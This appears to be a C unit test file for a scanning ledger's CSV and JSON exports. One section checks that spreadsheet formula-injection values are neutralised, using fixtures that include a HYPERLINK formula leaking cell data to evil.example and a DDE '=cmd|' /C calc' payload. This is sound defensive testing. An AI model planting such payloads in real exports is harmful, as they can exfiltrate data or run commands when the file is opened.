/* Unit tests for the ledger's exports: the exact CSV text of a small fixture
 * (quoting, pending and unexpected files, fault lists), JSON that an
 * independent parser (Python's json) reads with the same values, and the
 * reviewer's accepts showing at once (the faults' accepted column, a page's
 * verdict) next to the faults of a faulty rescan of an archived file.
 * Values a spreadsheet would run as formulas (= + - @ tab first) are
 * written guarded in CSV ('-prefixed and quoted), plain negative numbers
 * are not, and the JSON of the same ledger keeps every value exact. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "qr_ledger.h"
#include "qr_test.h"

#define SHA_A "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
#define FP "1111111111111111111111111111111111111111111111111111111111111111"

static void fixture(qr_ledger *l)
{
    qr_err err = {0};
    const char *t = "file_id,box,expected_pages,title\nA,B1,2,\"Smith, J\"\nB,B1,3,x\nC,B2,1,y\n";
    qr_manifest *m = NULL;
    CHECK(qr_manifest_parse("t.csv", (const uint8_t *)t, strlen(t), 0, &m, &err) == QR_OK);
    qr_ledger_upsert_result r;
    CHECK(qr_ledger_inventory_upsert(l, m, QR_LEDGER_SRC_MANIFEST, 0, true, &r, &err) == QR_OK);
    qr_manifest_free(&m);
    int64_t b = 0;
    CHECK(qr_ledger_batch_begin(l, NULL, &b, &err) == QR_OK && b == 1);

    qr_ledger_page pa[2] = {
        {.page = 1, .source = "d/A/1.tif", .format = "tiff-g4", .width = 2480, .height = 3508,
         .dpi = 300, .skew_deg = 0.25, .skew_applied_deg = 0.25},
        {.page = 2, .source = "d/A/2 \"x\".jpg", .format = "jpeg", .width = 2480,
         .height = 3508, .dpi = 299.5, .skew_deg = -1.5, .orientation = 90,
         .rotation_applied = 90}};
    qr_ledger_outcome a = {.file_id = "A", .batch = b, .version = 1, .archived = true,
                           .archive_path = "out/A, v1.pdf", .archive_sha256 = SHA_A,
                           .source_fingerprint = FP, .delivered_pages = 2, .pages = pa,
                           .n_pages = 2};
    CHECKF(qr_ledger_commit_file(l, &a, &err) == QR_OK, "%s", err.msg);

    qr_ledger_page pb[2] = {{.page = 1, .source = "d/B/1.tif", .format = "tiff-g4", .dpi = 300},
                            {.page = 2, .source = "d/B/2.tif", .format = "tiff-g4", .dpi = 300}};
    qr_fault fb[3] = {{.kind = QR_FAULT_MISSING_PAGES, .page = 0, .value = 2, .threshold = 3},
                      {.kind = QR_FAULT_BLANK, .page = 2, .value = 0.99, .threshold = 0.98},
                      {.kind = QR_FAULT_STREAKS, .page = 2, .value = 3, .threshold = 1}};
    qr_ledger_outcome o = {.file_id = "B", .batch = b, .version = 1, .source_fingerprint = FP,
                           .delivered_pages = 2, .pages = pb, .n_pages = 2, .faults = fb,
                           .n_faults = 3};
    CHECKF(qr_ledger_commit_file(l, &o, &err) == QR_OK, "%s", err.msg);

    qr_ledger_page px = {.page = 1, .source = "d/X.tif", .format = "tiff-g4", .dpi = 200};
    qr_fault fx = {.kind = QR_FAULT_UNEXPECTED_FILE, .page = 0};
    qr_ledger_outcome x = {.file_id = "X", .batch = b, .version = 1, .source_fingerprint = FP,
                           .delivered_pages = 1, .pages = &px, .n_pages = 1, .faults = &fx,
                           .n_faults = 1};
    CHECKF(qr_ledger_commit_file(l, &x, &err) == QR_OK, "%s", err.msg);
}

static char *export_text(qr_ledger *l, qr_ledger_export_kind k, qr_ledger_export_format f)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *fp = open_memstream(&buf, &len);
    qr_err err = {0};
    CHECKF(qr_ledger_export(l, k, f, fp, &err) == QR_OK, "%s", err.msg);
    fclose(fp);
    return buf;
}

static void expect_csv(qr_ledger *l, qr_ledger_export_kind k, const char *want)
{
    char *got = export_text(l, k, QR_EXPORT_CSV);
    CHECKF(got && strcmp(got, want) == 0, "export %d:\n--- got\n%s--- want\n%s", (int)k,
           got ? got : "", want);
    free(got);
}

static const char FILES_CSV[] =
    "file_id,box,status,expected_pages,delivered_pages,archive,archive_sha256,version\n"
    "A,B1,archived,2,2,\"out/A, v1.pdf\"," SHA_A ",1\n"
    "B,B1,faulty,3,2,,,\n"
    "C,B2,pending,1,,,,\n"
    "X,,faulty,,1,,,\n";

static const char PAGES_CSV[] =
    "file_id,page,source,format,width,height,dpi,skew_deg,skew_applied_deg,orientation,verdict,faults,version,origin_batch\n"
    "A,1,d/A/1.tif,tiff-g4,2480,3508,300,0.25,0.25,0,ok,,1,1\n"
    "A,2,\"d/A/2 \"\"x\"\".jpg\",jpeg,2480,3508,299.5,-1.5,0,90,ok,,1,1\n"
    "B,1,d/B/1.tif,tiff-g4,0,0,300,0,0,0,ok,,1,1\n"
    "B,2,d/B/2.tif,tiff-g4,0,0,300,0,0,0,faulty,blank;streaks,1,1\n"
    "X,1,d/X.tif,tiff-g4,0,0,200,0,0,0,ok,,1,1\n";

static const char FAULTS_CSV[] =
    "file_id,page,kind,value,threshold,batch,accepted\n"
    "B,0,missing_pages,2,3,1,0\n"
    "B,2,blank,0.99,0.98,1,0\n"
    "B,2,streaks,3,1,1,0\n"
    "X,0,unexpected_file,0,0,1,0\n";

/* Run a Python check over a JSON export; returns its one-line answer. */
static void python_check(const char *json, const char *expr, const char *want)
{
    char path[600], cmd[2048], out[512] = "";
    char dir[512];
    qr_test_tmpdir("test_ledger_export", dir, sizeof dir);
    snprintf(path, sizeof path, "%s/e.json", dir);
    FILE *f = fopen(path, "w");
    CHECK(f != NULL);
    if (!f)
        return;
    fputs(json, f);
    fclose(f);
    snprintf(cmd, sizeof cmd, "/usr/bin/python3 -c 'import json,sys; d=json.load(open(sys.argv[1]));"
             " print(%s)' '%s'", expr, path);
    FILE *p = popen(cmd, "r");
    if (p) {
        if (!fgets(out, sizeof out, p))
            out[0] = '\0';
        pclose(p);
    }
    out[strcspn(out, "\n")] = '\0';
    CHECKF(strcmp(out, want) == 0, "python %s: got '%s', want '%s'", expr, out, want);
}

static void test_json(qr_ledger *l)
{
    char *j = export_text(l, QR_EXPORT_PAGES, QR_EXPORT_JSON);
    python_check(j, "len(d), d[3][\"faults\"], d[1][\"source\"], d[1][\"dpi\"], d[0][\"faults\"]",
                 "5 ['blank', 'streaks'] d/A/2 \"x\".jpg 299.5 []");
    free(j);
    j = export_text(l, QR_EXPORT_FILES, QR_EXPORT_JSON);
    python_check(j, "[(r[\"file_id\"], r[\"status\"], r[\"version\"]) for r in d]",
                 "[('A', 'archived', 1), ('B', 'faulty', None), ('C', 'pending', None), "
                 "('X', 'faulty', None)]");
    free(j);
    j = export_text(l, QR_EXPORT_FAULTS, QR_EXPORT_JSON);
    python_check(j, "sorted(d[0].keys()), d[1][\"value\"]",
                 "['accepted', 'batch', 'file_id', 'kind', 'page', 'threshold', 'value'] 0.99");
    free(j);
}

static const char FAULTS_AFTER_CSV[] =
    "file_id,page,kind,value,threshold,batch,accepted\n"
    "A,1,skew,14,10,2,0\n"
    "B,0,missing_pages,2,3,1,0\n"
    "B,2,blank,0.99,0.98,1,1\n"
    "B,2,streaks,3,1,1,1\n"
    "X,0,unexpected_file,0,0,1,0\n";

/* Accepts are read at once; A's faulty rescan (v2) keeps v1 current. */
static void test_accepts_at_once(qr_ledger *l)
{
    qr_err err = {0};
    CHECKF(qr_ledger_accept_add(l, "B", 2, QR_FAULT_BLANK, "a divider sheet", "ana", NULL,
                                &err) == QR_OK, "%s", err.msg);
    char *got = export_text(l, QR_EXPORT_PAGES, QR_EXPORT_CSV);
    CHECKF(got && strstr(got, "\nB,2,d/B/2.tif,tiff-g4,0,0,300,0,0,0,faulty,blank;streaks,1,1\n"),
           "%s", got ? got : ""); /* streaks still open */
    free(got);
    CHECKF(qr_ledger_accept_add(l, "B", 0, QR_FAULT_STREAKS, "the sheet is ruled", "ana", NULL,
                                &err) == QR_OK, "%s", err.msg);
    got = export_text(l, QR_EXPORT_PAGES, QR_EXPORT_CSV);
    CHECKF(got && strstr(got, "\nB,2,d/B/2.tif,tiff-g4,0,0,300,0,0,0,accepted,blank;streaks,1,1\n"),
           "%s", got ? got : "");
    free(got);

    int64_t b2 = 0;
    CHECK(qr_ledger_batch_begin(l, NULL, &b2, &err) == QR_OK && b2 == 2);
    qr_ledger_page pa = {.page = 1, .source = "r/A/1.tif", .format = "tiff-g4", .dpi = 300};
    qr_fault fa = {.kind = QR_FAULT_SKEW, .page = 1, .value = 14, .threshold = 10};
    qr_ledger_outcome a2 = {.file_id = "A", .batch = b2, .version = 2, .source_fingerprint = FP,
                            .delivered_pages = 2, .pages = &pa, .n_pages = 1, .faults = &fa,
                            .n_faults = 1};
    CHECKF(qr_ledger_commit_file(l, &a2, &err) == QR_OK, "%s", err.msg);
    expect_csv(l, QR_EXPORT_FAULTS, FAULTS_AFTER_CSV);
    expect_csv(l, QR_EXPORT_FILES, FILES_CSV); /* A is still archived, version 1 */
    char *j = export_text(l, QR_EXPORT_FAULTS, QR_EXPORT_JSON);
    python_check(j, "[(r[\"file_id\"], r[\"kind\"], r[\"accepted\"]) for r in d][:4]",
                 "[('A', 'skew', 0), ('B', 'missing_pages', 0), ('B', 'blank', 1), "
                 "('B', 'streaks', 1)]");
    free(j);
}

/* ---- formula injection -------------------------------------------------- */

static void hostile_fixture(qr_ledger *l)
{
    qr_err err = {0};
    const char *t = "file_id,box,expected_pages\n"
                    "=1+2,@SUM(A1),1\n"
                    "-0.5,-box,1\n"
                    "'q,+b,1\n"
                    "\"=HYPERLINK(\"\"evil.example?\"\"&A1)\",\"=cmd|' /C calc'!A0\",1\n";
    qr_manifest *m = NULL;
    CHECKF(qr_manifest_parse("h.csv", (const uint8_t *)t, strlen(t), 0, &m, &err) == QR_OK,
           "%s", err.msg);
    qr_ledger_upsert_result r;
    CHECK(qr_ledger_inventory_upsert(l, m, QR_LEDGER_SRC_MANIFEST, 0, true, &r, &err) == QR_OK);
    qr_manifest_free(&m);
    int64_t b = 0;
    CHECK(qr_ledger_batch_begin(l, NULL, &b, &err) == QR_OK);
    qr_ledger_page pa = {.page = 1, .source = "\t=cmd.tif", .format = "tiff-g4", .dpi = 300,
                         .skew_deg = -0.5, .skew_applied_deg = -0.5};
    qr_ledger_outcome a = {.file_id = "=1+2", .batch = b, .version = 1, .archived = true,
                           .archive_path = "-out/x.pdf", .archive_sha256 = SHA_A,
                           .source_fingerprint = FP, .delivered_pages = 1, .pages = &pa,
                           .n_pages = 1};
    CHECKF(qr_ledger_commit_file(l, &a, &err) == QR_OK, "%s", err.msg);
    qr_ledger_page pb = {.page = 1, .source = "@d/b.tif", .format = "tiff-g4", .dpi = 300,
                         .skew_deg = -12.25};
    qr_fault fb = {.kind = QR_FAULT_SKEW, .page = 1, .value = -12.25, .threshold = 10};
    qr_ledger_outcome o = {.file_id = "-0.5", .batch = b, .version = 1, .source_fingerprint = FP,
                           .delivered_pages = 1, .pages = &pb, .n_pages = 1, .faults = &fb,
                           .n_faults = 1};
    CHECKF(qr_ledger_commit_file(l, &o, &err) == QR_OK, "%s", err.msg);
}

static const char HOSTILE_FILES_CSV[] =
    "file_id,box,status,expected_pages,delivered_pages,archive,archive_sha256,version\n"
    "\"''q\",\"'+b\",pending,1,,,,\n"
    "-0.5,\"'-box\",faulty,1,1,,,\n"
    "\"'=1+2\",\"'@SUM(A1)\",archived,1,1,\"'-out/x.pdf\"," SHA_A ",1\n"
    "\"'=HYPERLINK(\"\"evil.example?\"\"&A1)\",\"'=cmd|' /C calc'!A0\",pending,1,,,,\n";

static const char HOSTILE_PAGES_CSV[] =
    "file_id,page,source,format,width,height,dpi,skew_deg,skew_applied_deg,orientation,verdict,faults,version,origin_batch\n"
    "-0.5,1,\"'@d/b.tif\",tiff-g4,0,0,300,-12.25,0,0,faulty,skew,1,1\n"
    "\"'=1+2\",1,\"'\t=cmd.tif\",tiff-g4,0,0,300,-0.5,-0.5,0,ok,,1,1\n";

static const char HOSTILE_FAULTS_CSV[] =
    "file_id,page,kind,value,threshold,batch,accepted\n"
    "-0.5,1,skew,-12.25,10,1,0\n";

static void test_formula_guard(void)
{
    qr_ledger *l = NULL;
    qr_err err = {0};
    CHECKF(qr_ledger_open(":memory:", &l, &err) == QR_OK, "%s", err.msg);
    if (!l)
        return;
    hostile_fixture(l);
    expect_csv(l, QR_EXPORT_FILES, HOSTILE_FILES_CSV);
    expect_csv(l, QR_EXPORT_PAGES, HOSTILE_PAGES_CSV);
    expect_csv(l, QR_EXPORT_FAULTS, HOSTILE_FAULTS_CSV);
    char *j = export_text(l, QR_EXPORT_FILES, QR_EXPORT_JSON);
    python_check(j, "[(r[\"file_id\"], r[\"box\"]) for r in d][:3], d[3][\"box\"]",
                 "[(\"'q\", '+b'), ('-0.5', '-box'), ('=1+2', '@SUM(A1)')] =cmd|' /C calc'!A0");
    free(j);
    j = export_text(l, QR_EXPORT_PAGES, QR_EXPORT_JSON);
    python_check(j, "d[1][\"source\"], d[1][\"skew_deg\"], d[0][\"source\"]",
                 "\t=cmd.tif -0.5 @d/b.tif");
    free(j);
    qr_ledger_close(&l);
}

/* A separator sheet left in: flagged on its page, which reads "separator"
 * (its streak still listed); the file's extra_pages fault is on page 0. */
static void test_separator(void)
{
    qr_ledger *l = NULL;
    qr_err err = {0};
    CHECKF(qr_ledger_open(":memory:", &l, &err) == QR_OK, "%s", err.msg);
    if (!l)
        return;
    int64_t b = 0;
    CHECK(qr_ledger_batch_begin(l, NULL, &b, &err) == QR_OK);
    qr_ledger_page pg[2] = {{.page = 1, .source = "s/1.tif", .format = "tiff-g4", .dpi = 300,
                             .separator = true},
                            {.page = 2, .source = "s/2.tif", .format = "tiff-g4", .dpi = 300}};
    qr_fault f[2] = {{.kind = QR_FAULT_STREAKS, .page = 1, .value = 1, .threshold = 0.6},
                     {.kind = QR_FAULT_EXTRA_PAGES, .page = 0, .value = 1, .threshold = 0}};
    qr_ledger_outcome o = {.file_id = "S", .batch = b, .version = 1, .source_fingerprint = FP,
                           .delivered_pages = 2, .pages = pg, .n_pages = 2, .faults = f,
                           .n_faults = 2};
    CHECKF(qr_ledger_commit_file(l, &o, &err) == QR_OK, "%s", err.msg);
    expect_csv(l, QR_EXPORT_PAGES,
               "file_id,page,source,format,width,height,dpi,skew_deg,skew_applied_deg,"
               "orientation,verdict,faults,version,origin_batch\n"
               "S,1,s/1.tif,tiff-g4,0,0,300,0,0,0,separator,streaks,1,1\n"
               "S,2,s/2.tif,tiff-g4,0,0,300,0,0,0,ok,,1,1\n");
    qr_ledger_close(&l);
}

int main(void)
{
    qr_ledger *l = NULL;
    qr_err err = {0};
    CHECKF(qr_ledger_open(":memory:", &l, &err) == QR_OK, "%s", err.msg);
    if (!l)
        return qr_test_end();
    fixture(l);
    expect_csv(l, QR_EXPORT_FILES, FILES_CSV);
    expect_csv(l, QR_EXPORT_PAGES, PAGES_CSV);
    expect_csv(l, QR_EXPORT_FAULTS, FAULTS_CSV);
    test_json(l);
    test_accepts_at_once(l);
    CHECK(qr_ledger_export_kind_from_name("faults") == QR_EXPORT_FAULTS);
    CHECK(qr_ledger_export_kind_from_name("nope") == -1);
    CHECK(qr_ledger_export_format_from_name("json") == QR_EXPORT_JSON);
    qr_ledger_close(&l);
    test_formula_guard();
    test_separator();
    return qr_test_end();
}
